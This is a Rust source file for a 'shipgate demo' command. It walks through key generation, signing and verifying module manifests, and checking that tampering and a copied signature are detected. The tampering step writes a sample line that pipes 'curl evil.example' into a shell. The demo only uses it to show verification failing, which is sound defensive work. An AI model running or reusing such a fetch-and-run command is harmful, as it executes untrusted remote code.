//! `shipgate demo`: keygen, sign, verify, tamper, verify again, on a
//! sample module in a temporary directory, printing each step with what
//! was expected. [`pillar1`] is the reusable part (a later, fuller demo
//! runs it first).

use std::path::Path;
use std::process::ExitCode;

use shipgate_manifest::keys::generate_key_pair;
use shipgate_manifest::module::{
    ManifestOptions, ModuleReport, Outcome, sign_module, verify_module, write_manifest,
};
use shipgate_manifest::policy::{PolicyConfig, Request, resolve};
use shipgate_manifest::{Context, Mode, ModuleVersion, PublicKey, SIGNATURE_FILE, SecretKeyFile};

use crate::exit::{CliError, CmdResult};

#[derive(Debug, clap::Args)]
#[command(
    after_help = "Example:\n  shipgate demo\n  shipgate demo --keep   # keep the sample modules and keys to look at"
)]
pub struct Args {
    /// Keep the temporary directory with the sample modules and keys.
    #[arg(long)]
    keep: bool,
}

/// Counts and prints demo steps.
#[derive(Debug, Default)]
pub struct Demo {
    steps: usize,
    unexpected: usize,
}

impl Demo {
    /// Prints a section heading.
    pub fn section(&self, title: &str) {
        outln!("\n== {title}");
    }

    /// Records a step: `ok` is whether it behaved as `expected` says.
    pub fn step(&mut self, title: &str, expected: &str, ok: bool, detail: &str) {
        self.steps += 1;
        let mark = if ok { "✓" } else { "✗" };
        outln!("{mark} {title}");
        outln!("    expected: {expected}");
        if !detail.is_empty() {
            for line in detail.lines() {
                outln!("    {line}");
            }
        }
        if !ok {
            self.unexpected += 1;
        }
    }

    /// True when every step behaved as expected.
    pub fn all_as_expected(&self) -> bool {
        self.unexpected == 0
    }

    /// Exit 0 when every step behaved as expected, else a check failure.
    pub fn finish(&self) -> CmdResult {
        outln!();
        if !self.all_as_expected() {
            return Err(CliError::check(format!(
                "demo: {} of {} steps did NOT behave as expected",
                self.unexpected, self.steps
            )));
        }
        outln!("demo: all {} steps behaved as expected", self.steps);
        Ok(ExitCode::SUCCESS)
    }
}

fn io(context: &str) -> impl Fn(std::io::Error) -> CliError + '_ {
    move |e| CliError::usage(format!("demo: {context}: {e}"))
}

fn write(path: &Path, text: &str) -> Result<(), CliError> {
    if let Some(parent) = path.parent() {
        std::fs::create_dir_all(parent).map_err(io("create directory"))?;
    }
    std::fs::write(path, text).map_err(io("write sample file"))
}

/// One line per failure, naming the files.
fn describe(report: &ModuleReport) -> String {
    let mut lines = Vec::new();
    if let Some(Ok(diff)) = &report.tree {
        lines.extend(diff.added.iter().map(|p| format!("added   {p}")));
        lines.extend(diff.missing.iter().map(|p| format!("missing {p}")));
        lines.extend(
            diff.changed
                .iter()
                .map(|(p, c)| format!("changed {p}: {c}")),
        );
    }
    lines.extend(
        report
            .failures()
            .into_iter()
            .filter(|f| !f.ends_with("differ from the manifest")),
    );
    if lines.is_empty() {
        "got: pass".to_string()
    } else {
        format!("got: {}", lines.join("\n     "))
    }
}

fn mode_for(context: Context) -> Mode {
    let config = PolicyConfig::built_in();
    let no_env = |_: &str| None;
    resolve(&Request {
        context_flag: Some(context),
        mode_flag: None,
        allow_downgrade: false,
        config: &config,
        env: &no_env,
    })
    .map_or(Mode::RequireSignature, |r| r.mode)
}

/// The pillar-1 demo in `workdir`: sample modules, keygen, sign, verify,
/// tamper, a copied signature, and the branch-aware policy.
pub fn pillar1(demo: &mut Demo, workdir: &Path) -> Result<(), CliError> {
    let hello = workdir.join("modules/hello");
    let other = workdir.join("modules/other");
    write(&hello.join("README.md"), "# hello\nA sample module.\n")?;
    write(&hello.join("src/hello.py"), "print('hello, world')\n")?;
    write(&hello.join("data/greeting.txt"), "hello\n")?;
    write(&other.join("src/other.py"), "print('other')\n")?;
    outln!("sample modules in {}", workdir.join("modules").display());

    demo.section("keys");
    let pair = generate_key_pair(None).map_err(CliError::usage)?;
    let key_path = workdir.join("shipgate.key");
    let pub_path = workdir.join("shipgate.pub");
    shipgate_fs::write_private(&key_path, pair.secret_key_file.as_bytes())
        .map_err(io("write key"))?;
    shipgate_fs::write_atomic(&pub_path, pair.public_key_file.as_bytes())
        .map_err(io("write key"))?;
    let key = SecretKeyFile::from_file(&key_path)
        .and_then(|f| f.unlock(None))
        .map_err(CliError::usage)?;
    let public = PublicKey::from_file(&pub_path).map_err(CliError::usage)?;
    demo.step(
        &format!("keygen: {} + {}", key_path.display(), pub_path.display()),
        "a minisign key pair",
        key.key_id() == public.key_id(),
        &format!("key ID {}", public.key_id()),
    );
    let keys = [public];

    demo.section("dev branch: checksums only, no key");
    let written =
        write_manifest(&hello, &ManifestOptions::default(), None).map_err(CliError::usage)?;
    demo.step(
        "sign --checksum-only modules/hello",
        "a manifest listing 3 files",
        written.manifest.file_totals().0 == 3,
        &format!("manifest sha256 {}", written.sha256),
    );
    let local = mode_for(Context::Local);
    let report = verify_module(&hello, &keys, local, None);
    demo.step(
        &format!("verify modules/hello (context local -> {local})"),
        "pass: checksums match, no signature needed",
        report.outcome() == Outcome::Pass,
        &describe(&report),
    );
    let main = mode_for(Context::Push("main".into()));
    let report = verify_module(&hello, &keys, main, None);
    demo.step(
        &format!("verify modules/hello (context push:main -> {main})"),
        "fail: main requires a signature",
        report.outcome() == Outcome::Fail,
        &describe(&report),
    );

    demo.section("approval: sign, then verify on main");
    let options = ManifestOptions {
        name: None,
        version: ModuleVersion::new("1.0.0").ok(),
    };
    let signed = sign_module(&hello, &key, &options, now(), None).map_err(CliError::usage)?;
    demo.step(
        "sign modules/hello -s shipgate.key --version 1.0.0",
        "manifest + shipgate.manifest.minisig (minisign prehashed)",
        hello.join(SIGNATURE_FILE).is_file(),
        &format!("trusted comment: {}", signed.comment),
    );
    let report = verify_module(&hello, &keys, main, None);
    demo.step(
        "verify modules/hello -p shipgate.pub (push:main)",
        "pass",
        report.outcome() == Outcome::Pass,
        &describe(&report),
    );

    demo.section("tampering");
    let script = hello.join("src/hello.py");
    let original = std::fs::read_to_string(&script).map_err(io("read sample"))?;
    std::fs::write(&script, "import os; os.system('curl evil.example | sh')\n")
        .map_err(io("tamper"))?;
    let report = verify_module(&hello, &keys, main, None);
    let names_file = matches!(&report.tree, Some(Ok(d)) if d.changed.iter().any(|(p, _)| p.as_str() == "src/hello.py"));
    demo.step(
        "edit modules/hello/src/hello.py, verify",
        "fail, naming src/hello.py",
        report.outcome() == Outcome::Fail && names_file,
        &describe(&report),
    );
    std::fs::write(&script, original).map_err(io("restore"))?;
    let report = verify_module(&hello, &keys, main, None);
    demo.step(
        "restore the file, verify",
        "pass",
        report.outcome() == Outcome::Pass,
        &describe(&report),
    );

    demo.section("a signature copied from another module");
    sign_module(&other, &key, &ManifestOptions::default(), now(), None).map_err(CliError::usage)?;
    let own = std::fs::read(hello.join(SIGNATURE_FILE)).map_err(io("read signature"))?;
    std::fs::copy(other.join(SIGNATURE_FILE), hello.join(SIGNATURE_FILE))
        .map_err(io("copy signature"))?;
    let report = verify_module(&hello, &keys, main, None);
    demo.step(
        "copy modules/other's valid signature into modules/hello, verify",
        "fail: the signature does not match hello's manifest",
        report.outcome() == Outcome::Fail,
        &describe(&report),
    );
    std::fs::write(hello.join(SIGNATURE_FILE), own).map_err(io("restore signature"))?;
    let report = verify_module(&hello, &keys, mode_for(Context::Install), None);
    demo.step(
        "restore hello's own signature, verify (context install)",
        "pass",
        report.outcome() == Outcome::Pass,
        &describe(&report),
    );
    Ok(())
}

fn now() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| d.as_secs())
}

pub fn run(args: Args) -> CmdResult {
    let dir = tempfile::Builder::new()
        .prefix("shipgate-demo-")
        .tempdir()
        .map_err(io("create a temporary directory"))?;
    outln!(
        "shipgate demo: module manifests, signatures and the trust policy, then the release gate"
    );
    let mut demo = Demo::default();
    let result = pillar1(&mut demo, dir.path())
        .and_then(|()| super::gate_demo::gate_flow(&mut demo, dir.path()));
    if args.keep {
        let kept = dir.keep();
        outln!("\nkept {}", kept.display());
    }
    result?;
    demo.finish()
}
